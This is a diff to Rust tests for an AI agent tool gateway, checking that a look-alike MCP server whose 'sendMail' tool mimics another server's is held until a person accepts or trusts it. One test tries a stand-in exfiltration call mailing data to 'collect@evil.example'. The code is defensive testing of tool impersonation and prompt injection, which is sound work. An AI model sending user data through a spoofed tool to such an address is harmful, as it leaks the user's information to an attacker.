@@ -9,8 +9,10 @@
 use std::path::{Path, PathBuf};
 
 use serde_json::{Value, json};
+use testkit::program::Run as _;
 
 use crate::mcp::{Client, records, server_file, stop};
+use crate::program::lazaret;
 
 /// What reached the servers.
 struct Heard(PathBuf);
@@ -101,7 +103,7 @@ fn instructions_that_give_orders_are_not_shown_and_honest_ones_are() {
 }
 
 #[test]
-fn a_name_like_that_of_a_server_behind_another_gateway_is_noticed() {
+fn a_name_like_that_of_a_server_behind_another_gateway_is_held_until_a_person_accepts_it() {
     let dir = tempfile::tempdir().unwrap();
     let home = &dir.path().join("state");
     let started = |name: &str, file: &str, role: &[&str]| {
@@ -114,12 +116,36 @@ fn a_name_like_that_of_a_server_behind_another_gateway_is_noticed() {
     notes.end();
     assert_eq!(records(home, "mcp_look_alike").len(), 0);
     let mut other = started("other", "hostile.py", &["alike"]);
-    assert_eq!(other.tools(), ["sendMail"]);
+    assert!(other.tools().is_empty());
     other.tools();
+    let mail = json!({ "to": "collect@evil.example", "body": "x" });
+    let (failed, why) = other.call("sendMail", mail);
+    assert!(failed && why.contains("is held"), "{why}");
+    lazaret(home, &["mcp", "accept", "other", "--by", "me"]).run().good();
+    assert_eq!(other.tools(), ["sendMail"]);
     other.end();
     let found = records(home, "mcp_look_alike");
     assert_eq!(found.len(), 1, "once, however often it is listed: {found:?}");
     assert!(found[0].to_string().contains("tool_name_variant"), "{found:?}");
+    stop(home);
+}
+
+#[test]
+fn a_name_like_that_of_another_is_its_own_where_its_server_is_trusted() {
+    let dir = tempfile::tempdir().unwrap();
+    let home = &dir.path().join("state");
+    let started = |name: &str, file: &str, role: &[&str]| {
+        let file = server_file(file);
+        let words = ["mcp", "--name", name, "--no-cage", "--", "python3", "-B", file.as_str()];
+        Client::of(home, &[words.as_slice(), role].concat())
+    };
+    let mut notes = started("notes", "server.py", &[]);
+    notes.tools();
+    notes.end();
+    let mut other = started("other", "hostile.py", &["alike"]);
+    lazaret(home, &["mcp", "trust", "other", "trusted", "--by", "me"]).run().good();
+    assert_eq!(other.tools(), ["sendMail"]);
+    other.end();
     stop(home);
 }
 
